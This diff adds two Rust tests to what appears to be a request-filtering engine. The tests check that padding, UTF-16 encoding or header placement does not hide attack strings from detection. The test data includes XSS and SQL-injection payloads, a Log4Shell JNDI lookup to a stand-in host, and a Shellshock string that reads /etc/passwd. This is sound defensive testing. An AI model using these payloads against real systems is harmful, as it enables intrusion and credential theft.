@@ -182,3 +182,39 @@ fn coded_content_is_judged_a_turn_at_a_time() {
     assert!(turns >= 8, "{turns} turns");
     assert!(step == Step::Block || inspection.finish() == Step::Block);
 }
+
+/// Text is judged as a whole, whatever is around it.
+#[test]
+fn no_bytes_around_it_hide_a_text() {
+    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+    let nuls = |attack: &[u8]| [&[0; 40][..], attack].concat();
+    let script = "<script>alert(1)</script>";
+    for content in [
+        wide(script),
+        [b"\xFF\xFE", &wide(&script.repeat(40))[..]].concat(),
+        nuls(b"1\x0bunion\x0bselect\x0bpass,2\x0bfrom\x0busers"),
+        nuls(b"<svg\x0conload=alert(1)>"),
+        nuls(&[script.as_bytes(), &[1; 300]].concat()),
+        [&[0, 1, 0xFF].repeat(400)[..], script.as_bytes(), &[0, 1, 0xFF].repeat(400)].concat(),
+    ] {
+        assert!(refused(&["text/plain"], &content), "{}", String::from_utf8_lossy(&content));
+    }
+    assert!(!refused(&["text/plain"], &wide("hello there")));
+}
+
+/// Fields that browsers fill are judged where they hold what browsers do not write.
+#[test]
+fn no_field_hides_an_expansion() {
+    let judged = |name: &str, value: &str| {
+        let request = Request::get("/").header(name, value).body(()).expect("a request");
+        engine().judge(RequestHead::of(&request), b"").0
+    };
+    for name in ["accept", "accept-language", "authorization", "sec-fetch-site", "if-none-match"] {
+        for attack in
+            ["${jndi:ldap://x/a}", "{${jndi:ldap://x/a}}", "{}() { :;}; /bin/cat /etc/passwd"]
+        {
+            assert!(judged(name, attack), "{name}: {attack}");
+        }
+        assert!(!judged(name, "\"{0F5C2A1D-1111-2222-3333-444455556666},3\""), "{name}");
+    }
+}
